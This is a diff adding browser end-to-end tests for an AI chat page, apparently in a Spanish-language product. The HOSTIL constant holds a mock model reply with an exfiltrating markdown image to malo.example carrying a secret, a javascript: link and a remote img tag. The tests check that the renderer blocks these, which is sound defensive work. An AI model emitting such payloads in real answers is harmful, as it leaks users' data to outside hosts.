@@ -1,0 +1,154 @@
+import { CLAVE, type ProveedorDePrueba, startProveedor } from '@div/servidores/testing-ia'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { addPerson } from './add-person.ts'
+import { describeInBrowser, openSignedIn, slowDown } from './browser.ts'
+import { type Product, startStoryProduct } from './product.ts'
+
+let product: Product
+let proveedor: ProveedorDePrueba
+
+beforeAll(async () => {
+  proveedor = await startProveedor()
+  product = await startStoryProduct()
+})
+afterAll(async () => {
+  await product.stop()
+  await proveedor.close()
+})
+
+/** How far to the right anything of the page reaches. */
+const WIDEST = `Math.max(...[...document.querySelectorAll('main *')].map((each) => each.getBoundingClientRect().right))`
+
+const HOSTIL = `Resumen de las ventas:
+
+| Mes | Total |
+|---|---|
+| enero | 10 |
+
+\`\`\`grafico
+{"tipo": "lineas", "titulo": "Ventas", "x": "mes", "series": [{"campo": "total", "nombre": "Total"}], "datos": [{"mes": "enero", "total": 10}, {"mes": "febrero", "total": 14}]}
+\`\`\`
+
+![foto](https://malo.example/?dato=secreto) [aquí](javascript:alert(1)) <img src="https://malo.example/x">`
+
+describeInBrowser('a conversation with a model', () => {
+  test('without a servidor of models the page says what is missing, and leads there', async () => {
+    const page = await openSignedIn(product, '/')
+    await page.getByRole('link', { name: 'Chat AI Classic' }).click()
+    await page.getByText('Falta un servidor de modelos').waitFor()
+    await page.getByRole('link', { name: 'Crear servidor' }).click()
+    await page.waitForURL('**/servidores/config/new')
+    await product.api('POST', '/servidores', {
+      nombre: 'Modelos',
+      tipoServidor: 'openai',
+      permitirRedPrivada: true,
+      config: { urlBase: `${proveedor.origin}/v1`, clave: CLAVE, modelo: 'chico' },
+    })
+  })
+
+  test('it is asked with a file, answered while one looks on, stopped, renamed, found and removed', async () => {
+    const page = await openSignedIn(product, '/ai-chat')
+    await page.locator('input[type=file]').setInputFiles({
+      name: 'ventas.csv',
+      mimeType: 'text/csv',
+      buffer: Buffer.from('mes;total\nenero;10'),
+    })
+    const mensajes = page.getByRole('log', { name: 'Mensajes' })
+    await page.getByRole('button', { name: 'Quitar ventas.csv' }).waitFor()
+    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Resume las ventas')
+    proveedor.say({ texto: HOSTIL })
+    await page.keyboard.press('Enter')
+    await mensajes.getByText('Resume las ventas').waitFor()
+    await mensajes.getByText('chico · 11 + 7 tokens').waitFor()
+    expect(proveedor.seen.at(-1)?.body.messages.at(-1).content).toContain('mes: enero')
+    await mensajes.getByRole('cell', { name: 'enero' }).waitFor()
+    await mensajes.getByRole('figure', { name: 'Ventas' }).getByRole('application').waitFor()
+    // Nothing is fetched from elsewhere, and what leads elsewhere says where.
+    expect(await mensajes.locator('img').count()).toBe(0)
+    expect(await mensajes.getByRole('link').getAttribute('href')).toBe('https://malo.example/?dato=secreto')
+    await mensajes.getByText('(malo.example)').waitFor()
+
+    proveedor.say({ texto: 'uno dos tres cuatro cinco seis siete ocho nueve diez', pausaMs: 700 })
+    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Cuenta')
+    await page.getByRole('button', { name: 'Enviar' }).click()
+    await mensajes.getByText('uno dos').waitFor()
+    // Whoever comes back finds what came meanwhile, and what still comes.
+    await page.reload()
+    await mensajes.getByText('uno dos tres').waitFor()
+    await page.getByRole('button', { name: 'Detener' }).click()
+    await mensajes.getByText('Respuesta detenida.').waitFor()
+    await page.getByText('Contestando…').waitFor({ state: 'detached' })
+    await page.getByRole('button', { name: 'Volver a pedir' }).click()
+    await mensajes.getByText('Eco: Cuenta').waitFor()
+
+    await page.getByRole('button', { name: 'Acciones de la conversación' }).click()
+    await page.getByRole('menuitem', { name: 'Cambiar el título' }).click()
+    await page.getByRole('textbox', { name: 'Título' }).fill('Ventas de enero')
+    await page.getByRole('button', { name: 'Guardar' }).click()
+    const lista = page.getByRole('complementary', { name: 'Conversaciones' })
+    await lista.getByText('Ventas de enero').waitFor()
+    const download = page.waitForEvent('download')
+    await page.getByRole('button', { name: 'Acciones de la conversación' }).click()
+    await page.getByRole('menuitem', { name: 'Exportar como Markdown' }).click()
+    expect((await download).suggestedFilename()).toBe('Ventas de enero.md')
+
+    await page.getByRole('button', { name: 'Nueva' }).click()
+    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Otra cosa')
+    await page.keyboard.press('Enter')
+    await mensajes.getByText('Eco: Otra cosa').waitFor()
+    await lista.getByRole('searchbox').fill('resume')
+    await lista.getByText('Otra cosa').waitFor({ state: 'detached' })
+    await lista.getByText('Ventas de enero').click()
+    await mensajes.getByText('Resume las ventas').waitFor()
+    await page.getByRole('button', { name: 'Acciones de la conversación' }).click()
+    await page.getByRole('menuitem', { name: 'Eliminar' }).click()
+    await page.getByRole('dialog').getByRole('button', { name: 'Eliminar' }).click()
+    await lista.getByText('Ventas de enero').waitFor({ state: 'detached' })
+  })
+
+  test('what is written at once after «Nueva» is said there, and once, however slow the machine is', async () => {
+    const page = await openSignedIn(product, '/ai-chat')
+    await slowDown(page, 6)
+    const mensajes = page.getByRole('log', { name: 'Mensajes' })
+    const caja = page.getByRole('textbox', { name: 'Mensaje' })
+    for (const texto of ['Primera', 'Segunda', 'Tercera']) {
+      if (texto !== 'Primera') await page.getByRole('button', { name: 'Nueva' }).click()
+      await caja.focus()
+      await page.keyboard.type(texto)
+      await page.keyboard.press('Enter')
+      await page.keyboard.press('Enter')
+      await mensajes.getByText(`Eco: ${texto}`).waitFor()
+      await page.getByText('Contestando…').waitFor({ state: 'detached' })
+      expect(await mensajes.getByText('Eco: ').count()).toBe(1)
+    }
+  })
+
+  test('what goes wrong is told where it was asked, and a spent budget leads to it', async () => {
+    const precio = { modelo: 'chico', desde: '2026-01-01', entradaPorMillon: '100', salidaPorMillon: '100' }
+    await product.api('POST', '/ai/pricing', { ...precio, moneda: 'USD' })
+    const presupuesto = { nombre: 'Poco', ambito: 'todos', periodo: 'mes', importe: '0.001', moneda: 'USD' }
+    const made = await product.api('POST', '/ai/budget', { ...presupuesto, duro: true })
+    const page = await openSignedIn(product, '/ai-chat')
+    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Hola')
+    await page.keyboard.press('Enter')
+    await page.getByText('«Poco»').waitFor()
+    await page.getByRole('link', { name: 'Ver el presupuesto' }).click()
+    await page.waitForURL('**/ai/budget')
+    await product.api('DELETE', `/ai/budget/${(made.json as { id: string }).id}`)
+  })
+
+  test('lectura converses too, on a narrow screen, and sees nobody else’s conversations', async () => {
+    const credentials = await addPerson(product, 'lectura')
+    const page = await openSignedIn(product, '/ai-chat', {
+      credentials,
+      viewport: { width: 390, height: 844 },
+    })
+    await page.getByRole('button', { name: 'Conversaciones' }).click()
+    await page.getByText('Todavía no hay conversaciones.').last().waitFor()
+    await page.keyboard.press('Escape')
+    await page.getByRole('textbox', { name: 'Mensaje' }).fill('Hola desde el teléfono')
+    await page.getByRole('button', { name: 'Enviar' }).click()
+    await page.getByText('Eco: Hola desde el teléfono').waitFor()
+    expect(await page.evaluate(WIDEST)).toBeLessThanOrEqual(390)
+  })
+})
